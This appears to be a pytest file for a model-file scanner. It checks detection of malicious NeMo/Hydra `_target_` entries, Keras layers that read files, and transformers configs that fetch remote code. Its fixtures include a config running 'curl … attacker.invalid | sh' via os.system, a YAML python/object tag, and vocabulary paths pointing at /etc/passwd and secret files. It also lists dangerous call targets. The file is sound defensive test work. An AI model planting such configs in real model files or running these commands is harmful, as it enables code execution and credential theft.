"""WG537 (Hydra/NeMo `_target_`), WG538 (Keras layers that read files) and WG539 (transformers configs that
fetch code), each on real-looking generated files: config.json, model_config.yaml, a `.nemo` tar, a `.keras` zip.

Advisories pinned: CVE-2025-23304 (NeMo instantiating `_target_` from a `.nemo` archive's model_config.yaml),
CVE-2025-12058 (Keras StringLookup / IntegerLookup reading a vocabulary path), CVE-2026-1462 (Keras TFSMLayer
loading a SavedModel).
"""

from __future__ import annotations

import io
import json
import tarfile
from typing import Any

import pytest

from weightgate.formats import Format, claimed_formats
from weightgate.formats.base import Inspection
from weightgate.formats.configcode import classify_target, yaml_target_issues
from weightgate.rules import (
    CONFIG_CODE_TARGET,
    CONFIG_FETCHES_CODE,
    KERAS_LAYER_LOADS_FILE,
    MALFORMED_FILE,
    Severity,
)

from .feeding import inspect_all_chunkings, inspect_bytes
from .samples import hdf5_file, zip_of

# --- NeMo / Hydra `_target_` ------------------------------------------------------------------------------------

MODEL_CONFIG = """\
sample_rate: 16000
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: 16000
  normalize: per_feature
  window_size: 0.025
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: 80
  n_layers: 17
  d_model: 512
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  feat_in: 512
  num_classes: 1024
optim:
  name: adamw
  lr: 2.0
  sched:
    name: NoamAnnealing
    warmup_steps: 10000
loss:
  _target_: torch.nn.CTCLoss
  blank: 1024
"""

EVIL_TARGET = """\
  hijack:
    _target_: os.system
    _args_:
      - "curl -s https://attacker.invalid/x | sh"
"""


def nemo_archive(model_config: str) -> bytes:
    """A `.nemo` file as NeMo saves it: an uncompressed tar of model_config.yaml, the weights and tokenizer."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in (("./model_config.yaml", model_config.encode()),
                           ("./model_weights.ckpt", b"\x00" * 512),
                           ("./tokenizer.model", b"\x0a\x04test")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def rules_of(result: Inspection) -> set[str]:
    return {issue.rule.id for issue in result.issues}


def test_real_nemo_model_config_passes() -> None:
    result = inspect_all_chunkings(MODEL_CONFIG.encode())
    assert result.format is Format.TEXT and result.issues == []


def test_code_target_in_model_config_is_critical() -> None:
    result = inspect_bytes((MODEL_CONFIG + EVIL_TARGET).encode())
    [issue] = result.issues
    assert issue.rule is CONFIG_CODE_TARGET and issue.severity_override is Severity.CRITICAL
    assert "'os.system'" in issue.message and "loss.hijack" in issue.message
    assert dict(issue.evidence) == {"key": "loss.hijack", "target": "os.system", "with": "_args_"}


def test_code_target_inside_a_nemo_tar_is_found() -> None:
    result = inspect_all_chunkings(nemo_archive(MODEL_CONFIG + EVIL_TARGET))
    assert result.format is Format.TAR
    [issue] = [i for i in result.issues if i.rule is CONFIG_CODE_TARGET]
    assert "model_config.yaml" in issue.message and issue.severity_override is Severity.CRITICAL


def test_clean_nemo_tar_passes() -> None:
    result = inspect_bytes(nemo_archive(MODEL_CONFIG))
    assert result.issues == []
    assert claimed_formats("parakeet.nemo") is not None and result.format in claimed_formats("parakeet.nemo")


@pytest.mark.parametrize(("target", "severity"), [
    ("os.system", Severity.CRITICAL),
    ("builtins.exec", Severity.CRITICAL),
    ("eval", Severity.CRITICAL),
    ("subprocess.Popen", Severity.CRITICAL),
    ("functools.partial", Severity.CRITICAL),
    ("importlib.import_module", Severity.CRITICAL),
    ("pickle.loads", Severity.CRITICAL),
    ("torch.load", Severity.CRITICAL),
    ("torch.hub.load", Severity.CRITICAL),
    ("mypackage.layers.Custom", Severity.HIGH),
    ("nemo.collections.asr.models.EncDecCTCModel.restore_from", Severity.HIGH),
    ("torch.nn._private.Thing", Severity.HIGH),
])
def test_targets_outside_the_allowlist_fire(target: str, severity: Severity) -> None:
    assert classify_target(target) is not None
    assert classify_target(target)[0] is severity  # type: ignore[index]


@pytest.mark.parametrize("target", ["torch.nn.Linear", "torch.nn.CrossEntropyLoss", "torch.optim.AdamW",
                                    "torch.optim.lr_scheduler.CosineAnnealingLR",
                                    "nemo.collections.asr.modules.ConformerEncoder",
                                    "megatron.core.transformer.TransformerConfig"])
def test_known_constructors_are_near_misses(target: str) -> None:
    assert classify_target(target) is None


def test_target_in_json_config_fires() -> None:
    config = {"model": {"_target_": "subprocess.run", "_args_": [["id"]], "_partial_": True},
              "layer": {"_target_": "torch.nn.Linear", "in_features": 4, "out_features": 4}}
    [issue] = inspect_bytes(json.dumps(config).encode()).issues
    assert issue.rule is CONFIG_CODE_TARGET and dict(issue.evidence)["with"] == "_args_,_partial_"


def test_unknown_target_in_json_is_high() -> None:
    [issue] = inspect_bytes(json.dumps({"_target_": "acme.models.Net"}).encode()).issues
    assert issue.severity_override is Severity.HIGH and "(top level)" in issue.message


def test_yaml_with_python_tags_is_scanned_not_constructed() -> None:
    text = b"model: !!python/object/apply:os.system ['id']\nx:\n  _target_: os.system\n"
    issues = yaml_target_issues(text, len(text))
    assert [i.rule for i in issues] == [MALFORMED_FILE, CONFIG_CODE_TARGET]
    assert issues[1].confidence == "heuristic" and issues[1].severity_override is Severity.CRITICAL


def test_yaml_aliases_are_walked_once() -> None:
    lines = ["a0: &a0 {_target_: torch.nn.ReLU}"]
    lines += [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]" for i in range(1, 30)]
    text = "\n".join(lines).encode()
    assert yaml_target_issues(text, len(text)) == []


def test_oversized_yaml_with_targets_fails_closed() -> None:
    [issue] = yaml_target_issues(None, 5 * 1024 * 1024)
    assert issue.rule is CONFIG_CODE_TARGET and "limit" in issue.message


def test_text_mentioning_target_only_in_prose_is_a_near_miss() -> None:
    assert inspect_bytes(b"Hydra reads the _target_ key of a config.\n").issues == []


# --- Keras layers that read files ---------------------------------------------------------------------------------


def layer(class_name: str, **config: Any) -> dict[str, Any]:
    return {"module": "keras.layers", "class_name": class_name, "config": {"name": class_name.lower(), **config},
            "registered_name": None}


def keras_file(*layers: dict[str, Any]) -> bytes:
    model = {"module": "keras", "class_name": "Sequential", "registered_name": None,
             "config": {"name": "sequential", "layers": [layer("InputLayer", batch_shape=[None, 1]), *layers]}}
    return zip_of({"metadata.json": json.dumps({"keras_version": "3.8.0"}).encode(),
                   "config.json": json.dumps(model).encode(), "model.weights.h5": hdf5_file()})


@pytest.mark.parametrize(("obj", "shown"), [
    (layer("StringLookup", vocabulary="/etc/passwd", mask_token=None), "/etc/passwd"),
    (layer("IntegerLookup", vocabulary="/proc/self/environ"), "/proc/self/environ"),
    (layer("TextVectorization", vocabulary="gs://bucket/vocab.txt", max_tokens=100), "gs://bucket/vocab.txt"),
    (layer("TFSMLayer", filepath="/tmp/other_saved_model", call_endpoint="serve"), "/tmp/other_saved_model"),
    ({"module": "keras_hub.tokenizers", "class_name": "WordPieceTokenizer",
      "config": {"name": "tok", "vocabulary": "../../secrets.txt"}, "registered_name": None}, "../../secrets.txt"),
])
def test_keras_layers_that_read_files_fire(obj: dict[str, Any], shown: str) -> None:
    result = inspect_all_chunkings(keras_file(obj))
    assert result.format is Format.KERAS_V3
    [issue] = [i for i in result.issues if i.rule is KERAS_LAYER_LOADS_FILE]
    assert shown in issue.message and "config.json" in issue.message


def test_keras_lookup_with_inline_vocabulary_is_a_near_miss() -> None:
    result = inspect_bytes(keras_file(layer("StringLookup", vocabulary=["a", "b"]),
                                      layer("TextVectorization", vocabulary=None, max_tokens=100)))
    assert result.format is Format.KERAS_V3 and result.issues == []


# --- transformers configs that fetch code ----------------------------------------------------------------------

LLAMA_CONFIG = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 4096,
                "num_hidden_layers": 32, "torch_dtype": "bfloat16", "transformers_version": "4.46.0"}


@pytest.mark.parametrize(("extra", "field", "value"), [
    ({"attn_implementation": "kernels-community/flash-attn"}, "attn_implementation", "kernels-community/flash-attn"),
    ({"_attn_implementation": "kernels-community/vllm-flash-attn3:flash_attention"}, "_attn_implementation",
     "kernels-community/vllm-flash-attn3:flash_attention"),
    ({"attn_implementation": "hub:acme/kernel"}, "attn_implementation", "hub:acme/kernel"),
    ({"text_config": {"attn_implementation": "acme/attn@v1"}}, "text_config.attn_implementation", "acme/attn@v1"),
    ({"trust_remote_code": True}, "trust_remote_code", "true"),
    ({"auto_map": {"AutoModel": "other/repo--modeling_x.Model"}}, "auto_map", "other/repo--modeling_x.Model"),
])
def test_config_fields_that_fetch_code_fire(extra: dict[str, Any], field: str, value: str) -> None:
    result = inspect_bytes(json.dumps({**LLAMA_CONFIG, **extra}).encode())
    [issue] = [i for i in result.issues if i.rule is CONFIG_FETCHES_CODE]
    assert f"`{field}`" in issue.message and value in issue.message


@pytest.mark.parametrize("extra", [
    {"attn_implementation": "flash_attention_2"}, {"_attn_implementation": "sdpa"},
    {"attn_implementation": None}, {"trust_remote_code": False},
    {"auto_map": {"AutoModel": "modeling_x.Model"}},  # local custom code: WG530's, not fetched
])
def test_builtin_choices_are_near_misses(extra: dict[str, Any]) -> None:
    result = inspect_bytes(json.dumps({**LLAMA_CONFIG, **extra}).encode())
    assert CONFIG_FETCHES_CODE.id not in rules_of(result)


# --- end to end: `weightgate scan` of a model folder -------------------------------------------------------------


def test_scan_reports_the_config_rules_at_their_files(tmp_path: Any) -> None:
    from weightgate.scan import ScanOptions, run_scan

    root = tmp_path / "model"
    root.mkdir()
    (root / "asr.nemo").write_bytes(nemo_archive(MODEL_CONFIG + EVIL_TARGET))
    (root / "config.json").write_text(json.dumps({**LLAMA_CONFIG, "attn_implementation": "kernels-community/x"}))
    report = run_scan(ScanOptions(paths=(root,), source_root=tmp_path))
    found = {(f.rule.id, f.location.path.rsplit("/", 1)[-1], f.severity.value) for f in report.active_findings}
    assert ("WG537", "asr.nemo", "critical") in found and ("WG539", "config.json", "critical") in found
